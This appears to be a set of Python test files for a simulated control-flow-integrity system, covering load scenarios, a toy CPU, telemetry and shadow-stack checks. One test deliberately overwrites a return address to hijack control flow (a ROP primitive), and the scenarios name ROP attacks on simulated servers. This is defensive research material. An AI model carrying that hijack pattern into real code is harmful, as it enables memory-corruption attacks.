from repro.loadgen.sweep import knee_index, monotone_to_knee

EXAMPLES = os.path.join(
    os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
    "examples", "scenarios",
)


# -- scenario serialisation ---------------------------------------------------


def test_scenario_round_trip():
    scenario = builtin_scenario("faulted-closed")
    clone = LoadScenario.from_dict(
        json.loads(json.dumps(scenario.to_dict()))
    )
    assert clone == scenario


def test_scenario_unknown_key_rejected():
    data = LoadScenario.default().to_dict()
    data["typo_key"] = 1
    with pytest.raises(ValueError, match="typo_key"):
        LoadScenario.from_dict(data)


def test_scenario_validation():
    with pytest.raises(ValueError, match="mode"):
        LoadScenario(mode="half-open").validate()
    with pytest.raises(ValueError, match="server"):
        LoadScenario(servers=("apache",)).validate()
    with pytest.raises(ValueError, match="attack_count"):
        LoadScenario(attack_count=1).validate()
    with pytest.raises(ValueError, match="nginx"):
        LoadScenario(
            servers=("exim",), attack_kind="rop", attack_count=1
        ).validate()
    with pytest.raises(ValueError, match="upper"):
        LoadScenario(
            connections_lower_bound=4, connections_upper_bound=2
        ).validate()


def test_scenario_save_load(tmp_path):
    path = str(tmp_path / "scenario.json")
    scenario = builtin_scenario("mixed-open")
    scenario.save(path)
    assert LoadScenario.load(path) == scenario
    assert resolve_scenario(path) == scenario


def test_resolve_scenario_builtin_and_missing():
    assert resolve_scenario("smoke") == builtin_scenario("smoke")
    with pytest.raises(ValueError, match="no such scenario"):
        resolve_scenario("no-such-scenario")


def test_bundled_examples_match_builtins():
    bundled = {
        name[:-len(".json")]
        for name in os.listdir(EXAMPLES) if name.endswith(".json")
    }
    assert bundled == set(BUILTIN_SCENARIOS)
    for name in sorted(bundled):
        loaded = LoadScenario.load(
            os.path.join(EXAMPLES, f"{name}.json")
        )
        assert loaded == builtin_scenario(name), name


def test_with_seed_reseeds_fault_plan():
    scenario = builtin_scenario("faulted-closed").with_seed(9)
    assert scenario.seed == 9
    assert scenario.faults.seed == 9


# -- binary search ------------------------------------------------------------


def _synthetic_probe(latency_by_c, slo):
    calls = []

    def probe(c):
        calls.append(c)
        return latency_by_c[c], latency_by_c[c] <= slo

    return probe, calls


def test_search_finds_knee_on_synthetic_curve():
    # Latency grows with load; SLO 100 admits c <= 11 of [1, 16].
    curve = {c: 8 * c + 10 for c in range(1, 17)}
    probe, calls = _synthetic_probe(curve, slo=100)
    best_c, best, trace = search_max_under_slo(probe, 1, 16)
    assert best_c == 11
    assert best == curve[11]
    assert len(calls) <= probe_budget(1, 16)
    assert [row["connections"] for row in trace] == calls
    assert all(row["met"] == (curve[row["connections"]] <= 100)
               for row in trace)


def test_search_probe_budget_is_log2():
    assert probe_budget(1, 16) == 5
    assert probe_budget(1, 8) == 4
    assert probe_budget(3, 3) == 1


def test_search_all_points_miss():
    curve = {c: 1_000 for c in range(1, 9)}
    probe, _ = _synthetic_probe(curve, slo=100)
    best_c, best, trace = search_max_under_slo(probe, 1, 8)
    assert best_c is None and best is None
    assert trace and not any(row["met"] for row in trace)


def test_search_all_points_meet():
    curve = {c: 1 for c in range(1, 9)}
    probe, _ = _synthetic_probe(curve, slo=100)
    best_c, _, _ = search_max_under_slo(probe, 1, 8)
    assert best_c == 8


def test_search_rejects_inverted_bounds():
    with pytest.raises(ValueError):
        search_max_under_slo(lambda c: (c, True), 5, 2)


def test_knee_and_monotonicity_helpers():
    class Point:
        def __init__(self, throughput):
            self.throughput = throughput

    rising = [Point(10.0), Point(20.0), Point(25.0), Point(24.0)]
    assert knee_index(rising) == 2
    assert monotone_to_knee(rising)
    dipping = [Point(10.0), Point(5.0), Point(25.0), Point(24.0)]
    assert knee_index(dipping) == 2
    assert not monotone_to_knee(dipping)


# -- deterministic request mixes ----------------------------------------------


def test_mix_requests_deterministic():
    a = mix_requests("nginx", 6, seed=3)
    b = mix_requests("nginx", 6, seed=3)
    assert a == b
    assert mix_requests("nginx", 6, seed=4) != a


def test_server_requests_seeded_and_legacy():
    legacy = server_requests("nginx", 4)
    assert legacy == server_requests("nginx", 4, seed=None)
    assert len(set(legacy)) == 1  # the constant ab-style workload
    seeded = server_requests("nginx", 4, seed=5)
    assert seeded == server_requests("nginx", 4, seed=5)
    assert seeded != legacy


# -- real load points (small, but end to end) ---------------------------------


def _smoke(**overrides):
    scenario = builtin_scenario("smoke")
    if overrides:
        from dataclasses import replace

        scenario = replace(scenario, **overrides)
    return scenario


def test_closed_loop_point_is_exact_and_complete():
    point = run_load_point(_smoke(), 2)
    assert point.offered == point.completed == 4
    assert point.accounting_exact and point.ledger_exact
    assert point.throughput > 0
    assert point.latency["count"] == 4
    assert point.latency["p50"] <= point.latency["p99"]
    assert point.idle_cycles == 0.0  # closed loop never sleeps


def test_closed_loop_digest_reproducible():
    a = run_load_point(_smoke(), 2)
    b = run_load_point(_smoke(), 2)
    assert a.digest == b.digest
    assert a.throughput == b.throughput


def test_open_loop_differs_from_closed():
    open_scenario = _smoke(name="smoke-open", mode="open")
    a = run_load_point(open_scenario, 2)
    b = run_load_point(open_scenario, 2)
    assert a.digest == b.digest  # same seed reproduces
    assert a.idle_cycles > 0.0  # blocking accepts waited for arrivals
    closed = run_load_point(_smoke(), 2)
    assert a.digest != closed.digest  # the modes measure differently


def test_slo_search_on_smoke_scenario():
    result = slo_search(_smoke())
    assert result.converged
    assert result.probes <= probe_budget(1, 2)
    assert result.best_connections in (None, 1, 2)
    if result.best_connections is not None:
        assert result.best.slo_value <= result.slo_latency
