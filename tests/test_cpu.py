"""Unit tests for the CPU: memory protection, execution, CoFI events."""

import pytest
from hypothesis import given, strategies as st

from repro.cpu import (
    BranchEvent,
    CoFIKind,
    CPUFault,
    Executor,
    HaltReason,
    Machine,
    Memory,
    MemoryError_,
    PROT_EXEC,
    PROT_READ,
    PROT_WRITE,
)
from repro.isa import A, Cond, Label, asm
from repro.isa.registers import FP, R0, R1, R2, R3, SP

CODE_BASE = 0x40000
STACK_TOP = 0x80000


def make_cpu(items, syscall_handler=None):
    """Assemble ``items`` at CODE_BASE and return a ready executor."""
    code, symbols = asm(items, base=CODE_BASE)
    mem = Memory()
    mem.map_region(CODE_BASE, max(len(code), 1), PROT_READ | PROT_EXEC)
    mem.write_raw(CODE_BASE, code)
    mem.map_region(STACK_TOP - 0x4000, 0x4000, PROT_READ | PROT_WRITE)
    machine = Machine(mem)
    machine.ip = CODE_BASE
    machine.set_reg(SP, STACK_TOP - 8)
    return Executor(machine, syscall_handler=syscall_handler), symbols


class TestMemory:
    def test_map_read_write(self):
        mem = Memory()
        mem.map_region(0x1000, 0x100)
        mem.write(0x1008, b"hello")
        assert mem.read(0x1008, 5) == b"hello"

    def test_cross_page_access(self):
        mem = Memory()
        mem.map_region(0x1000, 0x3000)
        data = bytes(range(200)) * 30
        mem.write(0x1F00, data)
        assert mem.read(0x1F00, len(data)) == data

    def test_unmapped_read_raises(self):
        mem = Memory()
        with pytest.raises(MemoryError_):
            mem.read(0x5000, 1)

    def test_write_to_readonly_raises(self):
        mem = Memory()
        mem.map_region(0x1000, 0x100, PROT_READ)
        with pytest.raises(MemoryError_):
            mem.write(0x1000, b"x")

    def test_fetch_requires_exec(self):
        mem = Memory()
        mem.map_region(0x1000, 0x100, PROT_READ | PROT_WRITE)
        with pytest.raises(MemoryError_):
            mem.fetch(0x1000, 1)

    def test_write_raw_bypasses_protection(self):
        mem = Memory()
        mem.map_region(0x1000, 0x100, PROT_READ | PROT_EXEC)
        mem.write_raw(0x1000, b"\x00")
        assert mem.read_raw(0x1000, 1) == b"\x00"

    def test_mprotect(self):
        mem = Memory()
        mem.map_region(0x1000, 0x1000, PROT_READ)
        mem.protect(0x1000, 0x1000, PROT_READ | PROT_WRITE)
        mem.write(0x1000, b"ok")
        assert mem.read(0x1000, 2) == b"ok"

    def test_mprotect_unmapped_raises(self):
        mem = Memory()
        with pytest.raises(MemoryError_):
            mem.protect(0x9000, 0x100, PROT_READ)

    def test_u64_roundtrip(self):
        mem = Memory()
        mem.map_region(0x1000, 0x100)
        mem.write_u64(0x1010, 0x1122334455667788)
        assert mem.read_u64(0x1010) == 0x1122334455667788

    def test_cstring(self):
        mem = Memory()
        mem.map_region(0x1000, 0x100)
        mem.write(0x1000, b"nginx\x00junk")
        assert mem.read_cstring(0x1000) == b"nginx"

    @given(st.integers(0, 2**64 - 1))
    def test_u64_roundtrip_property(self, value):
        mem = Memory()
        mem.map_region(0x2000, 0x10)
        mem.write_u64(0x2000, value)
        assert mem.read_u64(0x2000) == value


class TestArithmetic:
    def test_basic_alu(self):
        cpu, _ = make_cpu(
            [
                A.mov(R0, 10),
                A.mov(R1, 3),
                A.movr(R2, R0),
                A.add(R2, R1),  # 13
                A.movr(R3, R0),
                A.mul(R3, R1),  # 30
                A.halt(),
            ]
        )
        assert cpu.run() is HaltReason.HALTED
        assert cpu.machine.reg(R2) == 13
        assert cpu.machine.reg(R3) == 30

    def test_div_mod_truncate_toward_zero(self):
        cpu, _ = make_cpu(
            [
                A.mov(R0, -7),
                A.mov(R1, 2),
                A.movr(R2, R0),
                A.div(R2, R1),
                A.movr(R3, R0),
                A.mod(R3, R1),
                A.halt(),
            ]
        )
        cpu.run()
        from repro.cpu.machine import to_signed

        assert to_signed(cpu.machine.reg(R2)) == -3
        assert to_signed(cpu.machine.reg(R3)) == -1

    def test_divide_by_zero_faults(self):
        cpu, _ = make_cpu([A.mov(R0, 1), A.mov(R1, 0), A.div(R0, R1)])
        with pytest.raises(CPUFault):
            cpu.run()

    def test_shifts_and_logic(self):
        cpu, _ = make_cpu(
            [
                A.mov(R0, 0b1100),
                A.mov(R1, 2),
                A.movr(R2, R0),
                A.shl(R2, R1),
                A.movr(R3, R0),
                A.shr(R3, R1),
                A.halt(),
            ]
        )
        cpu.run()
        assert cpu.machine.reg(R2) == 0b110000
        assert cpu.machine.reg(R3) == 0b11

    def test_wraparound(self):
        cpu, _ = make_cpu([A.mov(R0, 2**64 - 1), A.addi(R0, 1), A.halt()])
        cpu.run()
        assert cpu.machine.reg(R0) == 0


class TestControlFlow:
    def test_loop_counts(self):
        cpu, _ = make_cpu(
            [
                A.mov(R0, 0),
                Label("loop"),
                A.addi(R0, 1),
                A.cmpi(R0, 10),
                A.jcc(Cond.LT, "loop"),
                A.halt(),
            ]
        )
        cpu.run()
        assert cpu.machine.reg(R0) == 10

    def test_call_ret(self):
        cpu, _ = make_cpu(
            [
                A.mov(R1, 20),
                A.call("double"),
                A.halt(),
                Label("double"),
                A.movr(R0, R1),
                A.add(R0, R1),
                A.ret(),
            ]
        )
        cpu.run()
        assert cpu.machine.reg(R0) == 40

    def test_indirect_call_via_lea(self):
        cpu, _ = make_cpu(
            [
                A.lea(R2, "fn"),
                A.callr(R2),
                A.halt(),
                Label("fn"),
                A.mov(R0, 99),
                A.ret(),
            ]
        )
        cpu.run()
        assert cpu.machine.reg(R0) == 99

    def test_events_match_table3(self):
        events = []
        cpu, _ = make_cpu(
            [
                A.mov(R0, 1),
                A.cmpi(R0, 1),
                A.jcc(Cond.EQ, "next"),  # taken cond
                Label("next"),
                A.jmp("go"),  # direct jmp
                Label("go"),
                A.lea(R2, "fn"),
                A.callr(R2),  # indirect call
                A.halt(),
                Label("fn"),
                A.ret(),  # ret
            ]
        )
        cpu.add_listener(events.append)
        cpu.run()
        kinds = [e.kind for e in events]
        assert kinds == [
            CoFIKind.COND_BRANCH,
            CoFIKind.DIRECT_JMP,
            CoFIKind.INDIRECT_CALL,
            CoFIKind.RET,
        ]
        assert events[0].taken is True

    def test_not_taken_branch_event(self):
        events = []
        cpu, _ = make_cpu(
            [
                A.mov(R0, 1),
                A.cmpi(R0, 2),
                A.jcc(Cond.EQ, "skip"),
                Label("skip"),
                A.halt(),
            ]
        )
        cpu.add_listener(events.append)
        cpu.run()
        assert events[0].kind is CoFIKind.COND_BRANCH
        assert events[0].taken is False

    def test_steps_exhausted(self):
        cpu, _ = make_cpu([Label("spin"), A.jmp("spin")])
        assert cpu.run(max_steps=100) is HaltReason.STEPS_EXHAUSTED

    def test_syscall_handler_and_far_event(self):
        calls = []

        def handler(machine):
            calls.append(machine.reg(R0))

        events = []
        cpu, _ = make_cpu([A.mov(R0, 42), A.syscall(), A.halt()], handler)
        cpu.add_listener(events.append)
        cpu.run()
        assert calls == [42]
        assert events[0].kind is CoFIKind.FAR_TRANSFER

    def test_fetch_from_nonexec_faults(self):
        cpu, _ = make_cpu([A.mov(R2, 0x100), A.jmpr(R2)])
        with pytest.raises(CPUFault):
            cpu.run()


class TestStack:
    def test_push_pop(self):
        cpu, _ = make_cpu(
            [A.mov(R0, 7), A.push(R0), A.mov(R0, 0), A.pop(R1), A.halt()]
        )
        cpu.run()
        assert cpu.machine.reg(R1) == 7

    def test_return_address_lives_on_stack(self):
        """The property ROP depends on: ret target is attacker-writable."""
        cpu, symbols = make_cpu(
            [
                A.call("fn"),
                A.halt(),
                Label("fn"),
                # Overwrite our own return address with &target.
                A.lea(R2, "target"),
                A.store(SP, 0, R2),
                A.ret(),
                A.mov(R0, 1),
                A.halt(),
                Label("target"),
                A.mov(R0, 1337),
                A.halt(),
            ]
        )
        events = []
        cpu.add_listener(events.append)
        cpu.run()
        assert cpu.machine.reg(R0) == 1337
        ret_event = next(e for e in events if e.kind is CoFIKind.RET)
        assert ret_event.dst == symbols["target"]

    def test_frame_discipline(self):
        cpu, _ = make_cpu(
            [
                A.call("fn"),
                A.halt(),
                Label("fn"),
                A.push(FP),
                A.movr(FP, SP),
                A.subi(SP, 32),
                A.mov(R0, 5),
                A.store(FP, -8, R0),
                A.load(R1, FP, -8),
                A.movr(SP, FP),
                A.pop(FP),
                A.ret(),
            ]
        )
        cpu.run()
        assert cpu.machine.reg(R1) == 5


class TestCycles:
    def test_cycles_accumulate(self):
        cpu, _ = make_cpu([A.mov(R0, 1), A.halt()])
        cpu.run()
        assert cpu.cycles >= 2
        assert cpu.insn_count == 2

    def test_icache_flush(self):
        cpu, _ = make_cpu([A.halt()])
        cpu.run()
        cpu.flush_icache()
        assert not cpu._icache

    def test_listener_removal(self):
        events = []
        cpu, _ = make_cpu([A.jmp("x"), Label("x"), A.halt()])
        cpu.add_listener(events.append)
        cpu.remove_listener(events.append)
        cpu.run()
        assert events == []


class TestMachineSnapshot:
    def test_snapshot_restore(self):
        m = Machine()
        m.set_reg(R0, 11)
        m.ip = 0x1234
        m.zf = True
        snap = m.snapshot()
        m.set_reg(R0, 0)
        m.ip = 0
        m.zf = False
        m.restore(snap)
        assert m.reg(R0) == 11
        assert m.ip == 0x1234
        assert m.zf is True
