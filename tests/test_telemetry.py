"""Tests for the unified telemetry subsystem.

Covers the three sinks in isolation (metrics registry, span tracer,
cycle profiler), the cycle-accounting invariants of an instrumented
protected run (MonitorStats must reconcile exactly with the profiler),
and the ``repro stats`` CLI surface.
"""

import json

import pytest

from repro import telemetry
from repro.itccfg.credits import CreditLabeledITC
from repro.osmodel import Kernel
from repro.pipeline import FlowGuardPipeline
from repro.telemetry.metrics import MetricsRegistry, series_name
from repro.telemetry.profiler import CycleProfiler
from repro.telemetry.tracing import Tracer
from repro.workloads import (
    build_libsim,
    build_nginx,
    build_vdso,
    nginx_request,
)


@pytest.fixture(autouse=True)
def _clean_global_telemetry():
    """Every test starts and ends with disabled, empty global state."""
    tel = telemetry.get_telemetry()
    tel.disable()
    tel.reset()
    yield tel
    tel.disable()
    tel.reset()


class TestMetricsRegistry:
    def test_counter_labels_fan_out_into_series(self):
        reg = MetricsRegistry(enabled=True)
        checks = reg.counter("monitor.checks")
        checks.inc(path="fast")
        checks.inc(path="fast")
        checks.inc(path="slow")
        assert checks.value(path="fast") == 2
        assert checks.value(path="slow") == 1
        assert checks.total() == 3
        snap = reg.snapshot()
        assert snap["counters"]['monitor.checks{path="fast"}'] == 2

    def test_series_name_is_stable_under_label_order(self):
        reg = MetricsRegistry(enabled=True)
        c = reg.counter("x")
        c.inc(b=1, a=2)
        c.inc(a=2, b=1)
        assert c.value(a=2, b=1) == 2
        assert series_name("x", (("a", "2"), ("b", "1"))) == 'x{a="2",b="1"}'

    def test_gauge_and_histogram(self):
        reg = MetricsRegistry(enabled=True)
        reg.gauge("ratio").set(0.5, program="nginx")
        h = reg.histogram("window")
        for v in (10, 30, 20):
            h.observe(v)
        summary = h.summary()
        assert summary["count"] == 3
        assert summary["min"] == 10
        assert summary["max"] == 30
        assert summary["mean"] == pytest.approx(20.0)
        assert reg.snapshot()["gauges"]['ratio{program="nginx"}'] == 0.5

    def test_disabled_registry_is_a_no_op(self):
        reg = MetricsRegistry(enabled=False)
        reg.counter("c").inc()
        reg.gauge("g").set(1.0)
        reg.histogram("h").observe(1.0)
        snap = reg.snapshot()
        assert snap == {"counters": {}, "gauges": {}, "histograms": {}}

    def test_instruments_memoized_and_reset_keeps_them(self):
        reg = MetricsRegistry(enabled=True)
        assert reg.counter("c") is reg.counter("c")
        reg.counter("c").inc(5)
        reg.reset()
        assert reg.counter("c").total() == 0


class TestTracer:
    def test_nesting_records_parents(self):
        tracer = Tracer(enabled=True)
        with tracer.span("outer"):
            with tracer.span("inner", detail=1):
                pass
        inner, outer = tracer.spans[0], tracer.spans[1]
        assert inner.name == "inner"
        assert inner.parent_id == outer.span_id
        assert outer.parent_id is None
        assert inner.duration_s >= 0

    def test_disabled_spans_still_measure_but_are_not_retained(self):
        tracer = Tracer(enabled=False)
        with tracer.span("timed") as span:
            pass
        assert span.duration_ns >= 0
        assert tracer.spans == []

    def test_traced_decorator(self):
        tracer = Tracer(enabled=True)

        @tracer.traced("my.phase")
        def work(x):
            return x + 1

        assert work(1) == 2
        assert tracer.spans[0].name == "my.phase"

    def test_chrome_export_is_loadable(self, tmp_path):
        tracer = Tracer(enabled=True)
        with tracer.span("a", key="v"):
            with tracer.span("b"):
                pass
        path = tmp_path / "trace.json"
        assert tracer.export_chrome(str(path)) == 2
        payload = json.loads(path.read_text())
        assert {e["name"] for e in payload["traceEvents"]} == {"a", "b"}
        for event in payload["traceEvents"]:
            assert event["ph"] == "X"
            assert event["dur"] >= 0
            assert isinstance(event["ts"], float)

    def test_jsonl_export(self, tmp_path):
        tracer = Tracer(enabled=True)
        with tracer.span("one", n=1):
            pass
        path = tmp_path / "spans.jsonl"
        assert tracer.export_jsonl(str(path)) == 1
        line = json.loads(path.read_text().splitlines()[0])
        assert line["name"] == "one"
        assert line["attrs"] == {"n": 1}

    def test_buffer_cap_drops_oldest(self):
        tracer = Tracer(enabled=True, max_spans=3)
        for index in range(5):
            with tracer.span(f"s{index}"):
                pass
        assert len(tracer.spans) == 3
        assert tracer.dropped == 2
        assert tracer.spans[0].name == "s2"


class TestCycleProfiler:
    def test_record_and_views(self):
        prof = CycleProfiler()
        prof.record("fast", "decode", 10.0)
        prof.record("fast", "search", 5.0)
        prof.record("slow", "decode", 2.0)
        assert prof.per_phase() == {"decode": 12.0, "search": 5.0}
        assert prof.per_component() == {"fast": 15.0, "slow": 2.0}
        assert prof.total() == 17.0

    def test_set_overwrites_for_cumulative_sources(self):
        prof = CycleProfiler()
        prof.set("encoder", "trace", 100.0)
        prof.set("encoder", "trace", 150.0)
        assert prof.component_phase("encoder", "trace") == 150.0

    def test_reconcile_against_duck_typed_stats(self):
        class FakeStats:
            trace_cycles = 100.0
            decode_cycles = 10.0
            check_cycles = 7.0
            other_cycles = 3.0

        prof = CycleProfiler()
        prof.set("encoder", "trace", 100.0)
        prof.record("fast", "decode", 10.0)
        prof.record("fast", "search", 4.0)
        prof.record("slow", "shadow-stack", 3.0)
        prof.record("slow", "upcall", 2.0)
        prof.record("mon", "intercept", 1.0)
        report = prof.reconcile([FakeStats()])
        assert report["exact"]
        prof.record("fast", "decode", 0.5)
        assert not prof.reconcile([FakeStats()])["exact"]


NGINX_CORPUS = [
    nginx_request("/index.html"),
    nginx_request("/missing"),
    nginx_request("/p", "POST", b"form"),
]


@pytest.fixture(scope="module")
def nginx_pipeline():
    return FlowGuardPipeline.offline(
        "nginx",
        build_nginx(),
        {"libsim.so": build_libsim()},
        vdso=build_vdso(),
        corpus=NGINX_CORPUS,
        mode="socket",
    )


def _serve(pipeline, labeled=None, requests=8):
    kernel = Kernel()
    kernel.fs.create("/index.html", b"<html>hello</html>")
    monitor = pipeline.make_monitor(kernel)
    proc = kernel.spawn("nginx")
    monitor.protect(
        proc,
        labeled if labeled is not None else pipeline.labeled,
        pipeline.ocfg,
    )
    for _ in range(requests):
        proc.push_connection(nginx_request("/index.html"))
    kernel.run(proc)
    return monitor, proc


class TestCycleAccountingInvariants:
    """Satellite: MonitorStats vs profiler reconciliation invariants."""

    def test_protected_run_reconciles_exactly(self, nginx_pipeline):
        with telemetry.capture() as tel:
            monitor, proc = _serve(nginx_pipeline)
            stats = monitor.stats_for(proc)
            assert monitor.detections == []
            assert stats.checks > 0
            report = tel.profiler.reconcile(monitor.all_stats())
        assert report["exact"], report
        # Per-component total equals the stats total.
        assert tel.profiler.total() == pytest.approx(
            stats.total_cycles, rel=1e-9
        )
        assert sum(tel.profiler.per_component().values()) == pytest.approx(
            stats.total_cycles, rel=1e-9
        )

    def test_fast_and_slow_counts_sum_to_checks(self, nginx_pipeline):
        # An untrained credit map forces slow-path runs, covering the
        # upcall / shadow-stack / slow-decode phases too.
        untrained = CreditLabeledITC(itc=nginx_pipeline.itc)
        with telemetry.capture() as tel:
            monitor, proc = _serve(nginx_pipeline, labeled=untrained)
            stats = monitor.stats_for(proc)
            assert monitor.detections == []
            assert stats.slow_path_runs > 0
            assert stats.fast_passes + stats.slow_path_runs == stats.checks
            checks = tel.metrics.counter("monitor.checks")
            assert checks.value(path="fast") == stats.fast_passes
            assert checks.value(path="slow") == stats.slow_path_runs
            assert checks.total() == stats.checks
            report = tel.profiler.reconcile(monitor.all_stats())
        assert report["exact"], report
        phases = tel.profiler.per_phase()
        assert phases["upcall"] > 0
        assert phases["decode"] > 0

    def test_disabled_run_records_nothing(self, nginx_pipeline):
        tel = telemetry.get_telemetry()
        monitor, proc = _serve(nginx_pipeline)
        assert monitor.stats_for(proc).checks > 0
        assert tel.profiler.total() == 0.0
        assert tel.metrics.snapshot()["counters"] == {}
        assert tel.tracer.spans == []

    def test_edge_counters_match_stats(self, nginx_pipeline):
        with telemetry.capture() as tel:
            monitor, proc = _serve(nginx_pipeline)
            stats = monitor.stats_for(proc)
            m = tel.metrics
            assert m.counter("monitor.edges_checked").total() == (
                stats.edges_checked
            )
            assert m.counter("monitor.low_credit_edges").total() == (
                stats.low_credit_edges
            )
            assert m.counter(
                "fastpath.pairs_checked"
            ).total() == stats.edges_checked


class TestServerRunSnapshot:
    def test_run_server_attaches_snapshot_when_enabled(self):
        from repro.experiments.common import run_server, server_requests

        with telemetry.capture():
            run = run_server(
                "exim", server_requests("exim", 2), protected=True
            )
        assert run.telemetry is not None
        assert run.telemetry["metrics"]["counters"]
        assert run.telemetry["profile"]["total_cycles"] > 0

    def test_run_server_snapshot_none_when_disabled(self):
        from repro.experiments.common import run_server, server_requests

        run = run_server("exim", server_requests("exim", 2), protected=True)
        assert run.telemetry is None


class TestStatsCLI:
    def test_stats_command_reconciles_and_exports(self, tmp_path, capsys):
        from repro.cli import main

        trace = tmp_path / "trace.json"
        spans = tmp_path / "spans.jsonl"
        code = main([
            "stats", "exim", "-n", "2",
            "--trace-out", str(trace),
            "--spans-out", str(spans),
        ])
        assert code == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["schema_version"] == 4
        assert payload["context"]["kind"] == "solo"
        assert payload["monitor"]["reconciliation"]["exact"] is True
        assert payload["monitor"]["processes"]
        assert payload["telemetry"]["metrics"]["counters"]
        chrome = json.loads(trace.read_text())
        assert chrome["traceEvents"]
        assert all(e["ph"] == "X" for e in chrome["traceEvents"])
        assert spans.read_text().strip()
        # The CLI restores the global disabled state.
        assert not telemetry.get_telemetry().enabled
