"""Tests for the slow path: shadow stack + fine-grained forward edges."""

import pytest

from repro.analysis import ControlFlowGraph, Edge, EdgeKind
from repro.analysis.cfg import BasicBlock
from repro.cpu import CoFIKind, Memory
from repro.ipt.full_decoder import FlowEdge
from repro.monitor import (
    ShadowStack,
    ShadowStackViolation,
    SlowPathEngine,
)
from repro.monitor.shadowstack import (
    _DIRECT_CALL_LEN,
    _INDIRECT_CALL_LEN,
)


class TestShadowStack:
    def test_matched_call_ret(self):
        shadow = ShadowStack()
        shadow.feed(FlowEdge(CoFIKind.DIRECT_CALL, 0x100, 0x200))
        shadow.feed(FlowEdge(CoFIKind.RET, 0x210, 0x100 + _DIRECT_CALL_LEN))
        assert shadow.checked_returns == 1
        assert shadow.depth == 0

    def test_indirect_call_return_length(self):
        shadow = ShadowStack()
        shadow.feed(FlowEdge(CoFIKind.INDIRECT_CALL, 0x100, 0x300))
        shadow.feed(
            FlowEdge(CoFIKind.RET, 0x310, 0x100 + _INDIRECT_CALL_LEN)
        )
        assert shadow.checked_returns == 1

    def test_hijacked_return_raises(self):
        shadow = ShadowStack()
        shadow.feed(FlowEdge(CoFIKind.DIRECT_CALL, 0x100, 0x200))
        with pytest.raises(ShadowStackViolation) as exc:
            shadow.feed(FlowEdge(CoFIKind.RET, 0x210, 0xBAD))
        assert exc.value.expected == 0x100 + _DIRECT_CALL_LEN
        assert exc.value.actual == 0xBAD

    def test_nested_calls_lifo(self):
        shadow = ShadowStack()
        shadow.feed(FlowEdge(CoFIKind.DIRECT_CALL, 0x100, 0x200))
        shadow.feed(FlowEdge(CoFIKind.DIRECT_CALL, 0x200, 0x300))
        shadow.feed(FlowEdge(CoFIKind.RET, 0x310, 0x200 + _DIRECT_CALL_LEN))
        shadow.feed(FlowEdge(CoFIKind.RET, 0x210, 0x100 + _DIRECT_CALL_LEN))
        assert shadow.checked_returns == 2

    def test_window_start_unknown_returns_tolerated(self):
        """A ret before any call in the window cannot be checked."""
        shadow = ShadowStack()
        shadow.feed(FlowEdge(CoFIKind.RET, 0x100, 0x200))
        assert shadow.unknown_returns == 1
        assert shadow.checked_returns == 0

    def test_non_call_edges_ignored(self):
        shadow = ShadowStack()
        shadow.feed(FlowEdge(CoFIKind.COND_BRANCH, 0x100, 0x110))
        shadow.feed(FlowEdge(CoFIKind.DIRECT_JMP, 0x110, 0x120))
        assert shadow.depth == 0


def make_cfg_with_indirect(branch_addr, allowed_targets,
                           kind=EdgeKind.INDIRECT_CALL):
    cfg = ControlFlowGraph()
    block = BasicBlock(branch_addr & ~0xF, (branch_addr & ~0xF) + 0x20, "m")
    cfg.add_block(block)
    for target in allowed_targets:
        cfg.add_block(BasicBlock(target, target + 0x10, "m"))
        cfg.add_edge(Edge(block.start, target, kind, branch_addr))
    return cfg


class TestSlowPathForwardEdges:
    def _engine(self, cfg):
        return SlowPathEngine(Memory(), cfg)

    def test_indirect_call_inside_set_via_decoder(self):
        """End-to-end: a real traced run with an indirect call passes."""
        from repro.analysis import build_ocfg
        from repro.binary import Loader
        from repro.cpu import Executor, Machine
        from repro.cpu import PROT_READ, PROT_WRITE
        from repro.ipt import IPTConfig, IPTEncoder, ToPA, ToPARegion
        from repro.ipt import fast_decode
        from repro.ipt.msr import RTIT_CTL
        from repro.isa.registers import SP
        from repro.lang import (
            CallPtr, Const, Func, FuncRef, Let, Program, Return, Var,
        )

        prog = Program("t")
        prog.add_func(Func("target_fn", ["x"], [Return(Var("x"))]))
        prog.add_func(
            Func("main", [],
                 [Let("f", FuncRef("target_fn")),
                  Return(CallPtr(Var("f"), [Const(3)]))])
        )
        prog.set_entry("main")
        image = Loader().load(prog.build())
        image.memory.map_region(0x7FFE0000, 0x10000,
                                PROT_READ | PROT_WRITE)
        machine = Machine(image.memory)
        machine.ip = image.entry_address
        machine.set_reg(SP, 0x7FFEFF00)
        cpu = Executor(machine)
        config = IPTConfig()
        config.write_ctl(
            RTIT_CTL.TRACE_EN | RTIT_CTL.BRANCH_EN | RTIT_CTL.USER
        )
        encoder = IPTEncoder(config, output=ToPA([ToPARegion(1 << 16)]))
        cpu.add_listener(encoder.on_branch)
        cpu.run(100_000)
        encoder.flush()
        packets = fast_decode(encoder.output.snapshot()).packets
        engine = SlowPathEngine(image.memory, build_ocfg(image))
        result = engine.check(packets)
        assert result.ok, result.reason
        assert result.insns_decoded > 0
        assert result.cycles > 0

    def test_forward_edge_violation_detected(self):
        """Synthetic packets steering an indirect call off-CFG."""
        # Reuse the same program but tamper with the O-CFG so the real
        # target is no longer allowed.
        from repro.analysis import build_ocfg
        from repro.binary import Loader
        from repro.cpu import Executor, Machine
        from repro.cpu import PROT_READ, PROT_WRITE
        from repro.ipt import IPTConfig, IPTEncoder, ToPA, ToPARegion
        from repro.ipt import fast_decode
        from repro.ipt.msr import RTIT_CTL
        from repro.isa.registers import SP
        from repro.lang import (
            CallPtr, Const, Func, FuncRef, Let, Program, Return, Var,
        )

        prog = Program("t")
        prog.add_func(Func("target_fn", ["x"], [Return(Var("x"))]))
        prog.add_func(
            Func("main", [],
                 [Let("f", FuncRef("target_fn")),
                  Return(CallPtr(Var("f"), [Const(3)]))])
        )
        prog.set_entry("main")
        image = Loader().load(prog.build())
        image.memory.map_region(0x7FFE0000, 0x10000,
                                PROT_READ | PROT_WRITE)
        machine = Machine(image.memory)
        machine.ip = image.entry_address
        machine.set_reg(SP, 0x7FFEFF00)
        cpu = Executor(machine)
        config = IPTConfig()
        config.write_ctl(
            RTIT_CTL.TRACE_EN | RTIT_CTL.BRANCH_EN | RTIT_CTL.USER
        )
        encoder = IPTEncoder(config, output=ToPA([ToPARegion(1 << 16)]))
        cpu.add_listener(encoder.on_branch)
        cpu.run(100_000)
        encoder.flush()
        packets = fast_decode(encoder.output.snapshot()).packets

        ocfg = build_ocfg(image)
        # Empty every indirect-call target set: the observed call is now
        # a forward-edge violation.
        for branch in list(ocfg.indirect_targets):
